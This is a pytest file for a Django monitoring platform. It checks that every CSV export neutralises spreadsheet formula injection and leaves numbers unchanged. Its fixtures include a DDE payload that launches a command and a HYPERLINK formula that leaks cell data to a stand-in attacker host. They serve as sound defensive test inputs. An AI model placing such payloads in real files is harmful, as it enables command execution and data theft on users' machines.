"""Issue 12, item 5: text a spreadsheet would run as a formula is neutralised in every CSV the platform
writes (one helper, ``fourpermille.io.spreadsheet``); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.base import ContentFile

from fourpermille.io.spreadsheet import spreadsheet_safe, write_csv
from fourpermille.web.monitoring.services import import_measurements
from tests.web.conftest import page_client

PROFILE = "=cmd|' /C calc'!A0"
SITE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("P1", "P1"),
        ("", ""),
        (None, ""),
        (-1.5, -1.5),
        (-3, -3),
        ("-1.5", "-1.5"),
        ("-2e-3", "-2e-3"),
        ("+4", "+4"),
        ("-", "'-"),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_write_csv_escapes_header_and_cells_and_keeps_numbers():
    text = write_csv(["=label", "x"], [["@a", -0.25], [None, 7]])
    assert list(csv.reader(io.StringIO(text))) == [["'=label", "x"], ["'@a", "-0.25"], ["", "7"]]


def rows_of(response):
    assert response.status_code == 200, response.content[:300]
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_measurement_download_neutralises_a_formula_profile_id(client, projects, users):
    site = projects["draft-a"].sites.get()
    text = "profile_id,depth_top_cm,depth_bottom_cm,soc_g_kg,bulk_density_g_cm3\n"
    text += f'"{PROFILE}",0,30,20,1.2\n'
    import_measurements(site, ContentFile(text.encode(), name="m.csv"), users["editor-a"])
    rows = rows_of(page_client(client, "editor-a").get(f"/api/dashboard/sites/{site.pk}/measurements.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("profile_id")] == "'" + PROFILE
    assert row[header.index("depth_top_cm")] == "0.0"


@pytest.mark.django_db
def test_chart_csv_neutralises_a_formula_site_name(client, projects):
    site = projects["draft-a"].sites.get()
    site.name = SITE_NAME
    site.save()
    project = projects["draft-a"]
    rows = rows_of(
        page_client(client, "editor-a").get(f"/api/dashboard/projects/{project.pk}/sites/?format=csv")
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + SITE_NAME in cells
    assert SITE_NAME not in cells
